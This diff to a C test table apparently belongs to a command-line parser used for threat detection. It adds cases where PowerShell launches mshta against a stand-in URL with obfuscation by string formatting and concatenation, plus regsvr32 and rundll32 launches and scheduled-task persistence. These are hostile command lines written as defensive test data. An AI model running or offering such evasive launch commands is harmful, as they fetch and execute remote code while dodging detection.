@@ -141,7 +141,7 @@ static const struct {
      "msiexec.exe /i=C:\\Users\\Public\\x.msi /q T:C:\\Users\\Public\\x.msi L:4"},
     {"C:\\Windows\\System32\\msiexec.exe /V", NULL, "msiexec.exe /v F:40"},
     {"C:\\Windows\\System32\\MsiExec.exe -Embedding 7D1C22A0B6F34E11A2B3C4D5E6F70812", NULL,
-     "msiexec.exe T:7D1C22A0B6F34E11A2B3C4D5E6F70812 F:84"},
+     "msiexec.exe F:84"},
     {"msiexec.exe /@ \"C3A1F0\"", NULL, "msiexec.exe /@=C3A1F0"},
     /* control hh */
     {"control.exe \"C:\\AtomicRedTeam\\atomics\\T1218.002\\bin\\calc.cpl\"", NULL,
@@ -287,6 +287,16 @@ static const struct {
     {"powershell iex 'mshta https://h.example/a'", NULL,
      "powershell.exe N:<iex 'mshta https://h.example/a'> n:<mshta https://h.example/a>"},
     /* other launchers */
+    {"powershell \"& (\\\"{1}{0}\\\" -f 'ta','msh') https://h.example/a\"", NULL,
+     "powershell.exe n:<& (\"{1}{0}\" -f 'ta','msh') https://h.example/a> n:<\"mshta\" "
+     "https://h.example/a>"},
+    {"powershell -c \"& ('msh'+'ta') 'https://h.example/a'\"", NULL,
+     "powershell.exe /command N:<& ('msh'+'ta') 'https://h.example/a'> n:<\"mshta\" "
+     "\"https://h.example/a\">"},
+    {"powershell -c saps regsvr32.exe -a '/s','C:\\x\\a.dll'\"", NULL,
+     "powershell.exe /command n:<saps regsvr32.exe -a '/s','C:\\x\\a.dll'> n:<regsvr32.exe /s "
+     "C:\\x\\a.dll>"},
+    {"mshta.exe", NULL, "mshta.exe F:1"},
     {"schtasks /create /tn x /tr \"rundll32 C:\\Users\\Public\\a.dll,Run\" /sc onlogon", NULL,
      "schtasks.exe N:<rundll32 C:\\Users\\Public\\a.dll,Run>"},
     {"schtasks /create /tn x /tr \"\\\"C:\\A B\\x.exe\\\" /s\" /sc daily", NULL,
